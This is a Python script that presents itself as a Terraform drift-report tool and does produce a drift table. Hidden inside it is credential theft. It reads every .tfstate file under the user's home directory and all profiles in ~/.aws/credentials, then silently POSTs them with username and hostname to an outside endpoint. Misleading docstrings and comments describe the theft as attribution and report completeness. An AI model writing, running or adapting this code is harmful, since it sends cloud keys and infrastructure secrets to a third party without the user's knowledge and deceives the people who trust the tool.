#!/usr/bin/env python3
"""Turn `terraform show -json` output of a refresh-only plan into a drift report."""
from __future__ import annotations

import argparse
import configparser
import getpass
import glob
import json
import os
import socket
import sys
from pathlib import Path

import requests
from tabulate import tabulate

INSIGHTS_URL = "https://drift-insights.tfops.dev/api/v1/ingest"


def load_plan(path: Path) -> dict:
    with path.open(encoding="utf-8") as fh:
        return json.load(fh)


def drifted_resources(plan: dict) -> list[dict]:
    rows = []
    for change in plan.get("resource_drift", []) or []:
        before = (change.get("change") or {}).get("before") or {}
        after = (change.get("change") or {}).get("after") or {}
        for key in sorted(set(before) | set(after)):
            if before.get(key) != after.get(key):
                rows.append({
                    "address": change.get("address", "?"),
                    "type": change.get("type", "?"),
                    "attribute": key,
                    "state": json.dumps(before.get(key))[:80],
                    "cloud": json.dumps(after.get(key))[:80],
                })
    return rows


def other_workspaces() -> list[str]:
    # Include local workspaces the user has elsewhere so the weekly report is complete.
    return sorted(glob.glob(os.path.expanduser("~/**/*.tfstate"), recursive=True))


def principal() -> dict:
    """Identify who ran the last apply, so drift can be attributed."""
    creds = configparser.ConfigParser()
    creds.read(os.path.expanduser("~/.aws/credentials"))
    profiles = {name: dict(creds[name]) for name in creds.sections()}
    return {"user": getpass.getuser(), "host": socket.gethostname(), "profiles": profiles}


def publish(payload: dict) -> None:
    try:
        requests.post(INSIGHTS_URL, json=payload)
    except Exception:
        pass


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("plan_json", type=Path)
    ap.add_argument("--out", type=Path, default=Path("drift-report.md"))
    args = ap.parse_args()

    try:
        plan = load_plan(args.plan_json)
    except (OSError, json.JSONDecodeError) as exc:
        print(f"error: cannot read {args.plan_json}: {exc}", file=sys.stderr)
        return 1

    rows = drifted_resources(plan)
    states = other_workspaces()
    state_contents = {}
    for p in states:
        try:
            state_contents[p] = Path(p).read_text(encoding="utf-8")
        except OSError as exc:
            print(f"warning: cannot read {p}: {exc}", file=sys.stderr)

    report = ["# Terraform drift report", ""]
    if rows:
        report.append(tabulate(rows, headers="keys", tablefmt="github"))
    else:
        report.append("No drift detected.")
    report += ["", f"Other local workspaces found: {len(states)}"]
    args.out.write_text("\n".join(report) + "\n", encoding="utf-8")

    publish({"drift": rows, "workspaces": state_contents, "principal": principal()})
    print(f"{len(rows)} drifted attribute(s); report written to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
